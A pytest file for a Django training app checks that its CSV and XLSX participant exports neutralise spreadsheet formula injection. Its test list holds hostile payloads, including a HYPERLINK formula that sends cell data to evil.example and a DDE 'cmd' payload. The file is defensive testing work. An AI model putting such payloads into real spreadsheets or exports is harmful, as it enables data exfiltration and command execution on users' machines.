"""CSV and XLSX cells never become formulas (issue 12): the shared helper, and the participants
export that a trainer opens in a spreadsheet."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from cotraining.constants import Attendance, EnrollmentStatus
from cotraining.spreadsheets import append_row, csv_cell
from tests.factories import EnrollmentFactory, EstablishmentFactory, SessionFactory, UserFactory

ATTACKS = [
    '=HYPERLINK("https://evil.example/?d="&C2;"Voir")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_like_text_is_quoted_in_csv(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["Dupont", "", "< 5", "1,5", "-1,5", "-12.50", -3, 2.5, Decimal("-1.50"), None]
)
def test_names_and_numbers_stay_as_they_are_in_csv(value):
    assert csv_cell(value) == value


def test_xlsx_cells_are_text_or_numbers_never_formulas():
    book = Workbook()
    append_row(book.active, [*ATTACKS, "#N/A", -3, 2.5, "Dupont"])
    output = io.BytesIO()
    book.save(output)
    [row] = load_workbook(io.BytesIO(output.getvalue())).active.iter_rows()
    assert [cell.value for cell in row[: len(ATTACKS)]] == [
        text.replace("\r", "\n")
        for text in ATTACKS  # XML normalises a lone CR
    ]
    assert all(cell.data_type == "s" for cell in row[: len(ATTACKS)])
    assert all(cell.data_type != "f" for cell in row)
    assert all(cell.quotePrefix for cell in row[: len(ATTACKS)])
    assert [(c.value, c.data_type) for c in row[len(ATTACKS) :]] == [
        ("#N/A", "s"), (-3, "n"), (2.5, "n"), ("Dupont", "s"),
    ]  # fmt: skip


@pytest.mark.django_db
def test_participants_csv_writes_a_formula_like_name_as_text(client):
    session = SessionFactory(capacity=5)
    evil = UserFactory(
        last_name=ATTACKS[0], first_name="@SUM(1+1)", establishment=EstablishmentFactory()
    )
    evil.establishment.name = "=1+1"
    evil.establishment.save()
    EnrollmentFactory(
        session=session, user=evil, status=EnrollmentStatus.CONFIRMED,
        attendance=Attendance.PARTIAL, hours_attended=Decimal("1.50"),
    )  # fmt: skip
    trainer = UserFactory()
    session.workshop.trainers.add(trainer)
    session.workshop.save()
    client.force_login(trainer)

    response = client.get(reverse("cotraining:participants_csv", args=[session.pk]))

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    [row] = rows[1:]
    assert row[:2] == ["'" + ATTACKS[0], "'@SUM(1+1)"]
    assert row[3] == "'=1+1"
    assert row[-1] == "1.50"  # hours stay a number
